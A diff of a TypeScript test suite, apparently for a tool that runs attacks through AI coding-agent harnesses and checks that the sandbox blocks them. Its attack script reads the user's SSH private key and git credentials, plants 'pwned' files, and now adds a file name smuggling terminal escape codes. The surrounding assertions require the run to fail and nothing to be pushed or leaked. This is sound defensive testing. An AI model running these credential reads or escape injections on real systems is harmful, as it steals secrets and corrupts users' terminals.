@@ -59,6 +59,7 @@ function otherAttacks(s: Setting): string {
   return `R='${s.repo}'
 L='${s.listener}'
 echo pwned > "$R/PWNED"
+echo pwned > "$R/$(printf 'esc\\033]0;PWNED-TITLE\\007\\033[2J')"
 echo pwned > '${s.sibling}/PWNED'
 KEY=$(cat '${s.home}/.ssh/id_rsa' 2>/dev/null)
 CRED=$(cat '${s.home}/.git-credentials' 2>/dev/null)
@@ -120,7 +121,7 @@ describe.each(['claude-code', 'pi', 'codex'] as Harness[])('attacks through the 
     o = await attackRun(vendor, attackTasks(vendor, title), (s) => script(vendor, title, s));
   }, 300_000);
   afterAll(() => {
-    if (o) rmSync(o.s.root, { recursive: true, force: true });
+    if (o && !process.env.POLLY_ATTACK_KEEP) rmSync(o.s.root, { recursive: true, force: true });
   });
 
   it('the run ends failed, never ready, naming what was tried (the moved refs, or what the sandbox refused)', () => {
@@ -143,6 +144,10 @@ describe.each(['claude-code', 'pi', 'codex'] as Harness[])('attacks through the 
       expect(journal).toContain('"guard.ref_changed"');
     }
     expect(task.pr).toBeNull();
+    // A file name with terminal escapes, refused by the sandbox: its refusal line reaches the reason
+    // and Polly's output with the escapes made visible, never raw.
+    expect(task.statusReason).not.toContain('\u001b');
+    expect(`${o.result.stdout}${o.result.stderr}`).not.toContain('\u001b');
   });
 
   it('every ref, local and on origin, and the git config and hooks end as they began; nothing was pushed; no canary reached origin', () => {
